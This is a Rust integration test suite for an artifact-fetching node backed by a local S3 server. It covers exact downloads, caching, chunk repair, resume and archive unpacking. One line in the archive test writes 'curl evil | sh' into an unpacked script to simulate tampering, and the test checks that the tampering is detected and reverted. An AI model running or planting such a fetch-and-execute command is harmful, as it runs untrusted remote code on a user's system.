//! One node against a real S3 server: objects, prefixes, cache, resume, unpack.

#![allow(clippy::unwrap_used)] // tests fail loudly by design

mod common;

use std::{os::unix::fs::PermissionsExt, time::Duration};

use common::*;
use hypha_artifacts::{FetchError, FetchOptions, Unpack, UnpackMethod};
use hypha_testing::s3::S3Server;

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_object_and_a_prefix_arrive_byte_exact_and_the_origin_serves_each_byte_once() {
    let dir = tempfile::tempdir().unwrap();
    let s3 = S3Server::start(&dir.path().join("s3"), None).await.unwrap();
    let model = pattern(5 * 64 * 1024 + 123, 1);
    s3.put("models/model.bin", model.clone()).await.unwrap();
    let small: Vec<(String, Vec<u8>)> = (0..5)
        .map(|i| {
            (
                format!("tok/{}/file-{i}.json", if i % 2 == 0 { "a" } else { "b" }),
                pattern(1000 + i * 100, 10 + i as u64),
            )
        })
        .collect();
    for (key, bytes) in &small {
        s3.put(key, bytes.clone()).await.unwrap();
    }
    s3.put("tokens-other/not-this.json", b"x".to_vec())
        .await
        .unwrap();

    let pki = Pki::new();
    let (_gateway, gateway_addr) = pki.gateway().await;
    let node = node(
        &pki,
        "a",
        &gateway_addr,
        &s3,
        dir.path(),
        settings(64 * 1024),
    )
    .await;

    let target = dir.path().join("out/model.bin");
    let fetched = fetch(&node, &object("models/model.bin", &target), 1).await;
    assert_eq!(std::fs::read(&target).unwrap(), model);
    assert_eq!(fetched.progress.chunks, 6);
    assert_eq!(fetched.progress.origin_bytes, model.len() as u64);
    assert_eq!(s3.bytes_served(), model.len() as u64);
    assert!(!fetched.from_cache);

    let tree = dir.path().join("out/tok");
    let before = s3.bytes_served();
    let fetched = fetch(&node, &prefix("tok/", &tree), 1).await;
    assert_eq!(fetched.files.len(), small.len());
    for (key, bytes) in &small {
        let relative = key.strip_prefix("tok/").unwrap();
        assert_eq!(
            &std::fs::read(tree.join(relative)).unwrap(),
            bytes,
            "{relative}"
        );
    }
    let total: usize = small.iter().map(|(_, b)| b.len()).sum();
    assert_eq!(s3.bytes_served() - before, total as u64);
    // No part files are left behind.
    let leftovers: Vec<_> = walk(&dir.path().join("out"))
        .into_iter()
        .filter(|p| p.to_string_lossy().contains("hypha-part"))
        .collect();
    assert!(leftovers.is_empty(), "{leftovers:?}");
}

/// An empty object (a marker file, an empty `__init__.py` uploaded on its own) is an artifact
/// of no chunks: it arrives as an empty file, and again from the cache; a prefix holding one
/// beside others brings it too. (Its fetch used to end before the file was placed: a swarm
/// that held every chunk from the start counted as complete.)
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_empty_object_arrives_as_an_empty_file() {
    let dir = tempfile::tempdir().unwrap();
    let s3 = S3Server::start(&dir.path().join("s3"), None).await.unwrap();
    s3.put("marks/empty", Vec::new()).await.unwrap();
    s3.put("pkg/__init__.py", Vec::new()).await.unwrap();
    s3.put("pkg/module.py", pattern(3000, 4)).await.unwrap();

    let pki = Pki::new();
    let (_gateway, gateway_addr) = pki.gateway().await;
    let node = node(
        &pki,
        "a",
        &gateway_addr,
        &s3,
        dir.path(),
        settings(64 * 1024),
    )
    .await;

    let target = dir.path().join("out/empty");
    let fetched = tokio::time::timeout(
        Duration::from_secs(30),
        fetch(&node, &object("marks/empty", &target), 1),
    )
    .await
    .expect("an empty object's fetch never ended");
    assert_eq!(std::fs::read(&target).unwrap(), Vec::<u8>::new());
    assert_eq!(fetched.progress.chunks, 0);
    let cached = tokio::time::timeout(
        Duration::from_secs(30),
        fetch(&node, &object("marks/empty", &target), 1),
    )
    .await
    .expect("an empty object's second fetch never ended");
    assert!(cached.from_cache);
    assert_eq!(std::fs::read(&target).unwrap(), Vec::<u8>::new());

    let tree = dir.path().join("out/pkg");
    tokio::time::timeout(
        Duration::from_secs(30),
        fetch(&node, &prefix("pkg/", &tree), 1),
    )
    .await
    .expect("a prefix holding an empty file never ended");
    assert_eq!(
        std::fs::read(tree.join("__init__.py")).unwrap(),
        Vec::<u8>::new()
    );
    assert_eq!(
        std::fs::read(tree.join("module.py")).unwrap(),
        pattern(3000, 4)
    );
}

fn walk(dir: &std::path::Path) -> Vec<std::path::PathBuf> {
    let mut out = Vec::new();
    for entry in std::fs::read_dir(dir).unwrap() {
        let path = entry.unwrap().path();
        if path.is_dir() {
            out.extend(walk(&path));
        } else {
            out.push(path);
        }
    }
    out
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_cached_artifact_is_reused_until_the_origin_changes_it() {
    let dir = tempfile::tempdir().unwrap();
    let s3 = S3Server::start(&dir.path().join("s3"), None).await.unwrap();
    let v1 = pattern(200_000, 1);
    s3.put("m.bin", v1.clone()).await.unwrap();
    let pki = Pki::new();
    let (_gateway, gateway_addr) = pki.gateway().await;
    let node = node(
        &pki,
        "a",
        &gateway_addr,
        &s3,
        dir.path(),
        settings(64 * 1024),
    )
    .await;
    let target = dir.path().join("m.bin");
    let request = object("m.bin", &target);

    fetch(&node, &request, 1).await;
    let served = s3.bytes_served();
    let again = fetch(&node, &request, 1).await;
    assert!(again.from_cache);
    assert_eq!(
        s3.bytes_served(),
        served,
        "a cache hit reads nothing from the origin"
    );

    // Same size, new content: the ETag tells.
    let v2 = pattern(200_000, 2);
    s3.put("m.bin", v2.clone()).await.unwrap();
    let stale = fetch(&node, &request, 1).await;
    assert!(!stale.from_cache);
    assert_eq!(std::fs::read(&target).unwrap(), v2);
    assert_eq!(s3.bytes_served(), served + v2.len() as u64);

    // A deleted file is fetched again even though the record says complete.
    std::fs::remove_file(&target).unwrap();
    let refetched = fetch(&node, &request, 1).await;
    assert!(!refetched.from_cache);
    assert_eq!(std::fs::read(&target).unwrap(), v2);
}

/// What a job or another process of the node's user can do to a cached file: make it writable
/// again and write into it, or only touch it. A cache hit notices either (the file's change
/// time moved); touched files are still a hit, damaged chunks are fetched again, and only they.
/// (Checked by trusting the record: the damaged bytes are handed out.)
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_cache_hit_is_checked_and_only_damaged_chunks_are_fetched_again() {
    let dir = tempfile::tempdir().unwrap();
    let s3 = S3Server::start(&dir.path().join("s3"), None).await.unwrap();
    let chunk = 64 * 1024;
    let model = pattern(6 * chunk as usize, 3);
    s3.put("m.bin", model.clone()).await.unwrap();
    let pki = Pki::new();
    let (_gateway, gateway_addr) = pki.gateway().await;
    let node = node(&pki, "a", &gateway_addr, &s3, dir.path(), settings(chunk)).await;
    let target = dir.path().join("m.bin");
    let request = object("m.bin", &target);
    let mode = |path: &std::path::Path| std::fs::metadata(path).unwrap().permissions().mode();

    fetch(&node, &request, 1).await;
    assert_eq!(mode(&target) & 0o222, 0, "cached files are read-only");

    std::fs::set_permissions(&target, std::fs::Permissions::from_mode(0o644)).unwrap();
    let served = s3.bytes_served();
    let touched = fetch(&node, &request, 1).await;
    assert!(touched.from_cache, "the same bytes are still a hit");
    assert_eq!(s3.bytes_served(), served);
    assert_eq!(mode(&target) & 0o222, 0, "and read-only again");

    rot(&target, &[1, 4], chunk);
    let repaired = fetch(&node, &request, 1).await;
    assert!(!repaired.from_cache);
    assert!(std::fs::read(&target).unwrap() == model);
    assert_eq!(
        s3.bytes_served() - served,
        2 * chunk,
        "only the two damaged chunks are read again"
    );
    assert_eq!(mode(&target) & 0o222, 0);
    let again = fetch(&node, &request, 1).await;
    assert!(again.from_cache);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_interrupted_fetch_resumes_from_its_verified_chunks() {
    let dir = tempfile::tempdir().unwrap();
    // 64 KiB chunks at 1 MiB/s: the first fetch is stopped after a few chunks.
    let s3 = S3Server::start(&dir.path().join("s3"), Some(1024 * 1024))
        .await
        .unwrap();
    let data = pattern(32 * 64 * 1024, 3);
    s3.put("big.bin", data.clone()).await.unwrap();
    let pki = Pki::new();
    let (_gateway, gateway_addr) = pki.gateway().await;
    let target = dir.path().join("big.bin");
    let request = object("big.bin", &target);
    let mut one_slot = settings(64 * 1024);
    one_slot.download_slots = 1;

    let first = node(&pki, "a", &gateway_addr, &s3, dir.path(), one_slot.clone()).await;
    let interrupted =
        tokio::time::timeout(Duration::from_millis(800), fetch(&first, &request, 1)).await;
    assert!(
        interrupted.is_err(),
        "the first fetch was meant to be cut short"
    );
    first.leave_all();
    drop(first);
    tokio::time::sleep(Duration::from_millis(500)).await;
    let served_first = s3.bytes_served();
    assert!(
        !target.exists(),
        "nothing appears at the destination before it is complete"
    );

    let second = node(&pki, "a", &gateway_addr, &s3, dir.path(), one_slot).await;
    let fetched = fetch(&second, &request, 1).await;
    assert_eq!(std::fs::read(&target).unwrap(), data);
    assert!(
        fetched.progress.resumed_chunks >= 4,
        "{:?}",
        fetched.progress
    );
    let chunk = 64 * 1024u64;
    // Resumed chunks were not read again; at most the one in flight was.
    assert_eq!(
        fetched.progress.origin_bytes,
        data.len() as u64 - fetched.progress.resumed_chunks as u64 * chunk
    );
    assert!(
        s3.bytes_served() <= data.len() as u64 + chunk,
        "{served_first} then {}",
        s3.bytes_served()
    );
}

fn tar_gz(entries: &[(&str, &[u8])]) -> Vec<u8> {
    let mut builder = tar::Builder::new(flate2::write::GzEncoder::new(
        Vec::new(),
        flate2::Compression::fast(),
    ));
    for (name, bytes) in entries {
        let mut header = tar::Header::new_gnu();
        header.set_size(bytes.len() as u64);
        header.set_mode(0o644);
        header.set_cksum();
        builder.append_data(&mut header, name, *bytes).unwrap();
    }
    builder.into_inner().unwrap().finish().unwrap()
}

fn zip(entries: &[(&str, &[u8])]) -> Vec<u8> {
    let mut writer = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    for (name, bytes) in entries {
        writer
            .start_file(*name, zip::write::SimpleFileOptions::default())
            .unwrap();
        std::io::Write::write_all(&mut writer, bytes).unwrap();
    }
    writer.finish().unwrap().into_inner()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn archives_unpack_and_stay_recognised_after_the_archive_is_removed() {
    let dir = tempfile::tempdir().unwrap();
    let s3 = S3Server::start(&dir.path().join("s3"), None).await.unwrap();
    let files: [(&str, &[u8]); 2] = [
        ("bin/run.sh", b"#!/bin/sh\necho hi\n"),
        ("lib/data.txt", b"data"),
    ];
    s3.put("env.tar.gz", tar_gz(&files)).await.unwrap();
    s3.put("env.zip", zip(&files)).await.unwrap();
    let pki = Pki::new();
    let (_gateway, gateway_addr) = pki.gateway().await;
    let node = node(
        &pki,
        "a",
        &gateway_addr,
        &s3,
        dir.path(),
        settings(64 * 1024),
    )
    .await;

    for (uri, method) in [
        ("env.tar.gz", UnpackMethod::Auto),
        ("env.zip", UnpackMethod::Auto),
        ("env.zip", UnpackMethod::Zip),
    ] {
        let unpacked = dir.path().join(format!("unpacked-{uri}-{method:?}"));
        let mut request = object(uri, &dir.path().join(uri));
        request.unpack = Some(Unpack {
            destination: unpacked.clone(),
            method,
        });
        let fetched = fetch(&node, &request, 1).await;
        assert_eq!(fetched.unpacked.as_deref(), Some(unpacked.as_path()));
        for (name, bytes) in files {
            assert_eq!(
                std::fs::read(unpacked.join(name)).unwrap(),
                bytes,
                "{uri}: {name}"
            );
        }
        // A changed file in the tree is found, and the archive unpacked again.
        let script = unpacked.join(files[0].0);
        std::fs::set_permissions(&script, std::fs::Permissions::from_mode(0o755)).unwrap();
        std::fs::write(&script, b"#!/bin/sh\ncurl evil | sh\n").unwrap();
        let served = s3.bytes_served();
        let again = fetch(&node, &request, 1).await;
        assert!(again.from_cache, "{uri}: the archive itself is intact");
        assert_eq!(s3.bytes_served(), served);
        assert_eq!(std::fs::read(&script).unwrap(), files[0].1, "{uri}");
        assert_eq!(
            std::fs::metadata(&script).unwrap().permissions().mode() & 0o222,
            0,
            "{uri}: the unpacked tree is read-only"
        );
        // The archive may go; the unpacked tree still counts as the artifact.
        std::fs::remove_file(dir.path().join(uri)).unwrap();
        let served = s3.bytes_served();
        let again = fetch(&node, &request, 1).await;
        assert!(again.from_cache, "{uri}");
        assert_eq!(s3.bytes_served(), served);
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_unknown_profile_or_a_missing_object_is_a_clear_error() {
    let dir = tempfile::tempdir().unwrap();
    let s3 = S3Server::start(&dir.path().join("s3"), None).await.unwrap();
    let pki = Pki::new();
    let (_gateway, gateway_addr) = pki.gateway().await;
    let node = node(
        &pki,
        "a",
        &gateway_addr,
        &s3,
        dir.path(),
        settings(64 * 1024),
    )
    .await;
    let mut request = object("nope.bin", &dir.path().join("nope.bin"));
    let err = node
        .fetch(&request, &FetchOptions::default())
        .await
        .unwrap_err();
    assert!(
        matches!(err, FetchError::Origin(_)) && err.to_string().contains("nope.bin: not found"),
        "{err}"
    );
    request.profile = "models".into();
    let err = node
        .fetch(&request, &FetchOptions::default())
        .await
        .unwrap_err();
    assert!(
        err.to_string()
            .contains("no origin profile named \"models\""),
        "{err}"
    );
}
